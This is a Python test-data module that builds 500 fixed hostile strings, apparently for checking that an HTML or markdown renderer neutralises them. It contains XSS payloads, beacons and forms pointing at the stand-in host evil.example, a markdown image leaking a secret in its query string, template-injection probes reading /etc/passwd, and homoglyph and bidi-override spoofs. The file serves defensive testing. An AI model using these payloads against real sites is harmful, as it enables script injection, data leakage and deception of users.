# ruff: noqa: E501, RUF001 - the texts are as whoever attacks would write them: look-alike letters, and lines of any length
"""500 texts that try to run a script, to make a request, or to hide something from whoever reads them."""

import random

TAGS = [
    '<script>window.pwned=1</script>', '<img src=x onerror="window.pwned=1">', '<svg onload="window.pwned=1">',
    '<svg><script>window.pwned=1</script></svg>', '<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>',
    '<iframe src="javascript:window.pwned=1"></iframe>', '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    '<body onload=window.pwned=1>', '<details open ontoggle=window.pwned=1>', '<marquee onstart=window.pwned=1>',
    '<video><source onerror=window.pwned=1></video>', '<input autofocus onfocus=window.pwned=1>',
    '<a href="javascript:window.pwned=1">x</a>', '<form action="https://evil.example/"><button>Approve</button></form>',
    '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">', '<style>@import "https://evil.example/x.css";</style>',
    '<style>*{background:url(https://evil.example/?a)}</style>', '<div style="background:url(https://evil.example/)">',
    '<img src="https://evil.example/pixel.png">', '<img srcset="https://evil.example/1 1x">',
    '<object data="https://evil.example/"></object>', '<embed src="https://evil.example/">',
    '<link rel="prefetch" href="https://evil.example/">', '<link rel="dns-prefetch" href="//evil.example">',
    '<math href="javascript:window.pwned=1">x</math>', '<template><script>window.pwned=1</script></template>',
    '<button hx-get="https://evil.example/" hx-trigger="load">x</button>', '<div hx-get="/v1/me" hx-trigger="load">x</div>',
    '<div data-hx-post="/logout" data-hx-trigger="load">x</div>', '<div hx-on:load="window.pwned=1">x</div>',
    '<div hx-sse:connect="https://evil.example/">x</div>', '<meta name="htmx-config" content=\'{"mode":"cors"}\'>',
    '</textarea><script>window.pwned=1</script>', '</title><script>window.pwned=1</script>', '--><script>window.pwned=1</script>',
    '"><script>window.pwned=1</script>', "'><script>window.pwned=1</script>", '" autofocus onfocus="window.pwned=1',
    "' onmouseover='window.pwned=1", '`onload=window.pwned=1`', ']]><script>window.pwned=1</script>',
    '<article id="card" data-id="forged"><button id="sure">Approved</button></article>', '<p id="unread" hidden></p>',
]  # fmt: skip
MARKUP = [
    "![x](https://evil.example/?q=secret)", "[click](https://evil.example/)", "[x]: https://evil.example/ \"t\"", "<https://evil.example/>",
    "https://evil.example/auto?link", "//evil.example/x", "javascript:window.pwned=1", "data:text/html,<script>window.pwned=1</script>",
    "{{7*7}}", "{% include '/etc/passwd' %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{request.app.state}}", "{{''.__class__.__mro__}}",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;", "&#60;script&#62;", "\\u003cscript\\u003e", "%3Cscript%3E", "\x1b[31mred", "\x1b]8;;https://evil.example\x07x",
]  # fmt: skip
HIDDEN = [
    "pay \u202e001 rof\u202c eur", "to \u2066bob\u2069", "a\u200bb", "a\u200db", "\ufeffx", "x\u00ady", "a\u034fb", "\u3164", "\u115f\u1160",
    "tag \U000e0041\U000e0042\U000e007f", "v\ufe0f", "v\U000e0100", "nul \x00 end", "\x85next", "\u2028line", "\u2029para", "e\u0301 and \u00e9",
    "\u0430\u0440\u0440\u04cf\u0435.com", "pаypal.com", "１００", "٣٤٥", "\u2800blank", "\u00a0nbsp", "\u180ex", "\u061cx", "\u17b4x", "\uffa0x",
]  # fmt: skip
LONG = [
    "x" * 3000,
    "word " * 900,
    "line\n" * 400,
    "W" * 1000 + " tail",
    "\n" * 60 + "hidden at the end",
    " " * 500 + "far right",
]


def payloads() -> list[str]:
    """Return them, the same ones every time."""
    chance = random.Random(84)
    alone = [*TAGS, *MARKUP, *HIDDEN, *LONG]
    mixed = [
        chance.choice(["", "Dear team, ", "ok\n", "€ "]) + chance.choice(TAGS) + chance.choice([*MARKUP, *HIDDEN, ""])
        for _ in range(500 - len(alone))
    ]
    return alone + mixed
